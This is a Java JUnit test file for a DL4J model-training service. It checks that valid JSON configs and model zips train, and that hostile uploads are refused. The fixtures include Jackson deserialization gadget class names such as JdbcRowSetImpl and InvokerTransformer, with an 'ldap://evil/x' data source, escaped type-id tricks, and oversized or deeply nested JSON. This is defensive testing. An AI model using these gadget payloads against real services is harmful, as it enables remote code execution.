package vn.hocsau.trainer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.regex.Matcher;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.deeplearning4j.nn.conf.NeuralNetConfiguration;
import org.deeplearning4j.nn.conf.distribution.NormalDistribution;
import org.deeplearning4j.nn.conf.inputs.InputType;
import org.deeplearning4j.nn.conf.layers.DenseLayer;
import org.deeplearning4j.nn.conf.layers.OutputLayer;
import org.deeplearning4j.nn.multilayer.MultiLayerNetwork;
import org.deeplearning4j.util.ModelSerializer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.nd4j.linalg.activations.Activation;
import vn.hocsau.trainer.config.NetworkConfigParser;

/** DL4J JSON configs and model zips: the happy paths, and hostile files that must stay inert. */
class Dl4jModelsTest {

  @TempDir Path dir;

  /** A learner's DL4J model: DL4J's stock layers (false), as a learner's own DL4J code builds. */
  private static String configJson() {
    return new NetworkConfigParser("classification", 2, new int[] {3}, false)
        .parse("optimizer: {lr: 0.01}\nlayers:\n  - dense: {units: 8}\n")
        .conf()
        .toJson();
  }

  @Test
  void aDl4jJsonConfigTrains() throws Exception {
    JobFolder folder =
        new JobFolder(dir)
            .blobs(300, 10, 3)
            .maxEpochs(4)
            .submission("dl4j-json", "model.json", configJson());

    assertEquals(0, folder.run());

    assertEquals(4, folder.events("epoch").size());
    assertTrue(
        folder.events("epoch").get(3).get("metrics").get("val_accuracy").doubleValue() > 0.85);
  }

  @Test
  void aDoubleCnnTrainsWithoutHelpersAndSaysWhy() throws Exception {
    var conf =
        new NetworkConfigParser("classification", 3, new int[] {1, 8, 8}, false)
            .parse("layers:\n  - conv2d: {filters: 4}\n  - maxpool: {size: 2}\n")
            .conf();
    conf.setDataType(org.nd4j.linalg.api.buffer.DataType.DOUBLE);
    JobFolder folder =
        new JobFolder(dir)
            .bars(60, 5, false)
            .maxEpochs(1)
            .submission("dl4j-json", "cnn.json", conf.toJson());

    assertEquals(0, folder.run());

    assertEquals("none", folder.events("started").get(0).get("helpers").asText());
    if (OneDnnHelpers.available()) {
      assertTrue(
          folder.events("log").stream()
              .anyMatch(
                  e ->
                      e.get("message")
                          .asText()
                          .equals(
                              "oneDNN helpers not used: the helpers support float networks, this one is DOUBLE")),
          folder.events("log").toString());
    }
    assertEquals(6, folder.predictions().size());
  }

  @Test
  void aSavedModelZipPredictsAsUploaded() throws Exception {
    MultiLayerNetwork net = new MultiLayerNetwork(MultiLayerNetworkJson.conf(configJson()));
    net.init();
    Path zip = dir.resolve("saved.zip");
    ModelSerializer.writeModel(net, zip.toFile(), true);
    JobFolder folder =
        new JobFolder(dir.resolve("job"))
            .blobs(50, 10, 3)
            .submissionBytes("dl4j-zip", "model.zip", Files.readAllBytes(zip));

    assertEquals(0, folder.run());

    assertEquals(0, folder.events("started").get(0).get("epochs").intValue());
    assertEquals(11, folder.predictions().size());
  }

  @Test
  void gadgetClassesAreRefusedBeforeDl4jSeesTheJson() throws Exception {
    for (String gadget :
        new String[] {
          "com.sun.rowset.JdbcRowSetImpl",
          "org.apache.commons.collections.functors.InvokerTransformer",
          "java.net.URL",
          "org.nd4j.shade.jackson.databind.node.POJONode",
          "org.deeplearning4j.nn.conf..x"
        }) {
      String hostile =
          configJson()
              .replaceFirst(
                  "\"@class\" : \"org.deeplearning4j.nn.conf.layers.DenseLayer\"",
                  "\"@class\" : \""
                      + gadget
                      + "\", \"dataSourceName\" : \"ldap://evil/x\", \"autoCommit\" : true");
      assertTrue(hostile.contains(gadget), "the fixture really carries the gadget");
      JobFolder folder =
          new JobFolder(Files.createTempDirectory(dir, "g"))
              .blobs(20, 2, 3)
              .submission("dl4j-json", "model.json", hostile);

      assertEquals(2, folder.run(), gadget);

      assertTrue(
          folder
              .verdict()
              .get("message")
              .asText()
              .startsWith("the configuration names a class DL4J configurations never use"),
          folder.verdict().toString());
    }
  }

  @Test
  void typeIdsMustBeWholeClassNamesNotPrefixes() {
    String dense = "org.deeplearning4j.nn.conf.layers.DenseLayer";
    String canary = Canaries.Initialised.class.getName();
    // Raw JSON text: "\\u003c" is a JSON escape that decodes to '<'.
    String[] typeIds = {
      dense + "<com.sun.rowset.JdbcRowSetImpl>",
      dense + "<" + canary + ">",
      dense + "\\u003ccom.sun.rowset.JdbcRowSetImpl\\u003e",
      dense + "\\u003c" + canary + "\\u003e",
      dense + "$Inner",
      dense + "$Builder",
      dense + "[]",
      "[L" + dense + ";",
      dense + " ",
      " " + dense,
      dense + "\\t",
      dense + "\\u0000",
      "org.deeplearning4j.nn.conf.NeuralNetConfiguration",
      "org.deeplearning4j.nn.conf.layers.FeedForwardLayer",
    };
    for (String typeId : typeIds) {
      String hostile =
          configJson()
              .replaceFirst(
                  "\"@class\" : \"" + dense + "\"",
                  Matcher.quoteReplacement("\"@class\" : \"" + typeId + "\""));
      assertTrue(hostile.contains(typeId), "the fixture really carries " + typeId);

      TrainerException e =
          assertThrows(TrainerException.class, () -> Dl4jModels.fromJson(hostile), typeId);

      assertTrue(
          e.getMessage()
              .startsWith("the configuration names a class DL4J configurations never use"),
          typeId + " -> " + e.getMessage());
    }
    assertFalse(Canaries.initialised, "Jackson loaded a class named in a type id");
  }

  @Test
  void escapedKeysAndDistributionTypeIdsAreCheckedToo() {
    String gadgetKey =
        configJson()
            .replaceFirst(
                "\"@class\" : \"org.deeplearning4j.nn.conf.layers.DenseLayer\"",
                "\"\\\\u0040class\" : \"java.net.URL\"");
    assertTrue(gadgetKey.contains("\\u0040class"));
    assertTrue(
        assertThrows(TrainerException.class, () -> Dl4jModels.fromJson(gadgetKey))
            .getMessage()
            .contains("'java.net.URL'"));

    String normal = "org.deeplearning4j.nn.conf.distribution.NormalDistribution";
    String withDistribution =
        new NeuralNetConfiguration.Builder()
            .weightInit(new NormalDistribution(0, 0.1))
            .list()
            .layer(new DenseLayer.Builder().nOut(8).build())
            .layer(new OutputLayer.Builder().nOut(2).activation(Activation.SOFTMAX).build())
            .setInputType(InputType.feedForward(3))
            .build()
            .toJson();
    assertTrue(withDistribution.contains("\"type\" : \"" + normal + "\""));
    Dl4jModels.fromJson(withDistribution);
    String hostile = withDistribution.replace(normal, Canaries.Initialised.class.getName());

    TrainerException e = assertThrows(TrainerException.class, () -> Dl4jModels.fromJson(hostile));

    assertTrue(e.getMessage().contains("'vn.hocsau.trainer.Canaries$Initialised'"), e.getMessage());
    assertFalse(Canaries.initialised, "Jackson loaded a class named in a distribution's type");
  }

  @Test
  void aBillionUnitLayerIsRefusedBeforeAnythingIsAllocated() throws Exception {
    String huge =
        new NeuralNetConfiguration.Builder()
            .list()
            .layer(new DenseLayer.Builder().nOut(1_000_000_000).build())
            .layer(new OutputLayer.Builder().nOut(2).activation(Activation.SOFTMAX).build())
            .setInputType(InputType.feedForward(3))
            .build()
            .toJson();
    String expected =
        "layer 1 (DenseLayer) has nIn 3 and nOut 1000000000: more parameters than the 20000000 a"
            + " lab job may train";
    assertTrue(
        assertThrows(TrainerException.class, () -> Dl4jModels.fromJson(huge))
            .getMessage()
            .startsWith(expected));

    JobFolder folder =
        new JobFolder(dir).blobs(20, 2, 3).submission("dl4j-json", "model.json", huge);
    int status = assertTimeoutPreemptively(Duration.ofSeconds(30), folder::run);
    assertEquals(2, status);
    assertTrue(folder.verdict().get("message").asText().startsWith(expected));

    String wide =
        new NeuralNetConfiguration.Builder()
            .list()
            .layer(new DenseLayer.Builder().nOut(4000).build())
            .layer(new DenseLayer.Builder().nOut(4000).build())
            .layer(new DenseLayer.Builder().nOut(4000).build())
            .layer(new OutputLayer.Builder().nOut(2).activation(Activation.SOFTMAX).build())
            .setInputType(InputType.feedForward(3))
            .build()
            .toJson();
    assertTrue(
        assertThrows(TrainerException.class, () -> Dl4jModels.fromJson(wide))
            .getMessage()
            .startsWith("the network has 32032002 parameters, more than the 20000000"));
  }

  @Test
  void deepOrHugeJsonIsAQuickConfigError() throws Exception {
    String deep = "{\"confs\": " + "[".repeat(200_000) + "]".repeat(200_000) + "}";
    String huge = "{\"confs\": [], \"x\": \"" + "a".repeat(3_000_000) + "\"}";
    assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () -> {
          for (String text : new String[] {deep, huge}) {
            JobFolder folder =
                new JobFolder(Files.createTempDirectory(dir, "d"))
                    .blobs(20, 2, 3)
                    .submission("dl4j-json", "model.json", text);
            assertEquals(2, folder.run());
            assertEquals("CONFIG_ERROR", folder.verdict().get("errorClass").asText());
          }
        });
  }

  @Test
  void zipsWithStrangeEntriesOrGadgetsAreRefused() throws Exception {
    byte[] extra = zip("configuration.json", configJson(), "preprocessor.bin", "\u00ac\u00ed");
    JobFolder folder =
        new JobFolder(dir.resolve("a"))
            .blobs(20, 2, 3)
            .submissionBytes("dl4j-zip", "model.zip", extra);
    assertEquals(2, folder.run());
    assertTrue(
        folder
            .verdict()
            .get("message")
            .asText()
            .startsWith("the model zip holds 'preprocessor.bin'"));

    String hostile =
        configJson().replace("org.nd4j.linalg.activations.impl.ActivationReLU", "java.net.URL");
    byte[] gadget = zip("configuration.json", hostile, "coefficients.bin", "x");
    JobFolder second =
        new JobFolder(dir.resolve("b"))
            .blobs(20, 2, 3)
            .submissionBytes("dl4j-zip", "model.zip", gadget);
    assertEquals(2, second.run());
    assertTrue(second.verdict().get("message").asText().contains("'java.net.URL'"));

    JobFolder third =
        new JobFolder(dir.resolve("c"))
            .blobs(20, 2, 3)
            .submissionBytes("dl4j-zip", "model.zip", "not a zip".getBytes());
    assertEquals(2, third.run());
  }

  private static byte[] zip(String... namesAndTexts) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < namesAndTexts.length; i += 2) {
        zip.putNextEntry(new ZipEntry(namesAndTexts[i]));
        zip.write(namesAndTexts[i + 1].getBytes(java.nio.charset.StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  /** Reads a config back the way DL4J does, for building a model to save. */
  private static final class MultiLayerNetworkJson {
    static org.deeplearning4j.nn.conf.MultiLayerConfiguration conf(String json) {
      return org.deeplearning4j.nn.conf.MultiLayerConfiguration.fromJson(json);
    }
  }
}
